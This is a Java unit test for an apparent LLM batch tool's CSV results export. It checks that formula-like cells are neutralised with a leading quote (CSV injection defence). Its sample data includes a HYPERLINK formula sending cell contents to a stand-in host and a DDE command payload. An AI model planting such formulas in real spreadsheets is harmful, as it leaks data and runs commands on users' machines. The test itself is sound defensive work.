package io.llmbatch.jobs;

import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.mongodb.client.MongoCollection;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.bson.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import io.llmbatch.support.JobsDir;
import io.llmbatch.support.Mongo;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV export of answers and task fields that come from outside: a cell a spreadsheet would run as a formula (OWASP's
 * "CSV injection": {@code =HYPERLINK(...)} sends the row to another site when clicked, {@code @SUM}, {@code +cmd|...},
 * {@code -2+3}) is written with a leading ' unless formulas are kept; plain numbers and ordinary text stay as stored.
 */
class ResultsExportTest {

    static final int PORT = 21302;
    static final List<String> ANSWERS = List.of("=HYPERLINK(\"http://evil.example/?\"&A2,\"详情\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "\t=1+1", "-12.5", "+86", "成都的一家公司,成立于2015年。", "");

    static MongoClient client;
    static JobDefinition job;

    @BeforeAll
    static void start() throws Exception {
        Mongo.reset(PORT);
        client = MongoClients.create("mongodb://127.0.0.1:" + PORT);
        job = new Jobs(JobsDir.fresh(Path.of("target/results-export")).resolve("jobs"), "company_intro", "chatglm2_6b_int4").defaultJob();
        MongoCollection<Document> results = client.getDatabase("llm").getCollection("company_intro");
        for (int i = 0; i < ANSWERS.size(); i++) {
            results.insertOne(new Document("pid", "p" + i).append("job", "company_intro").append("intro", ANSWERS.get(i))
                    .append("task", new Document("ent_table_name", i == 0 ? "=1+1" : "公司" + i)).append("model_name", "m"));
        }
    }

    @AfterAll
    static void stop() {
        client.close();
        Mongo.stop();
    }

    List<CSVRecord> export(boolean keepFormulas) throws Exception {
        try (ResultsExport export = ResultsExport.csv(job, new JobStore(client.getDatabase("llm")).stored(job, 10), false, keepFormulas);
             CSVParser csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                     .parse(new InputStreamReader(export, StandardCharsets.UTF_8))) {
            return csv.getRecords();
        }
    }

    @Test
    void cells_a_spreadsheet_would_run_get_a_leading_quote_numbers_and_text_stay() throws Exception {
        List<CSVRecord> rows = export(false);
        assertThat(rows).extracting(r -> r.get("intro")).containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A2,\"详情\")",
                "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'\t=1+1", "-12.5", "+86", "成都的一家公司,成立于2015年。", "");
        assertThat(rows.get(0).get("ent_table_name")).as("a task field too").isEqualTo("'=1+1");
        assertThat(rows.get(1).get("ent_table_name")).isEqualTo("公司1");
    }

    @Test
    void kept_formulas_read_back_exactly_as_stored() throws Exception {
        List<CSVRecord> rows = export(true);
        assertThat(rows).extracting(r -> r.get("intro")).containsExactlyElementsOf(ANSWERS);
        assertThat(rows.get(0).get("ent_table_name")).isEqualTo("=1+1");
    }
}
